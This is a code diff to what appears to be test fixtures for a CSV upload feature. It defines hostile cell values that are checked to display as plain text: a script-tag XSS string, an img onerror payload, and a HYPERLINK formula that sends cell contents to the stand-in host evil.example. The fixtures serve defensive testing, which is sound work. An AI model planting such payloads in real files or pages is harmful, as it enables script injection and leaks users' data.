@@ -2,12 +2,13 @@
 import { choose, enter, signIn } from "./browser.js";
 import { badRow, csv, file, goodRow } from "./files.js";
 
-const SCRIPT = "<script>document.title='run'</script><img src=x onerror=document.title='run'>";
+const SCRIPT = "<script>document.title='run'</script>";
+const PICTURE = "<img src=x onerror=document.title='run'>";
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Select me")';
 const LONG = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft".repeat(2);
 
 /** Cells that must show as the text that they are. */
-export const HOSTILE = [SCRIPT, FORMULA];
+export const HOSTILE = [SCRIPT, PICTURE, FORMULA];
 
 /** A file of which every row has an error, hostile and long. */
 export const HOSTILE_FILE = csv(
@@ -15,7 +16,7 @@ export const HOSTILE_FILE = csv(
   badRow("a".repeat(40), { first: LONG }),
   goodRow("same.login"),
   goodRow("Same.Login"),
-  goodRow(SCRIPT.slice(0, 40)),
+  badRow(PICTURE),
 );
 
 const GOOD_FILE = csv(goodRow("dialogue.one"), goodRow("dialogue.two"));
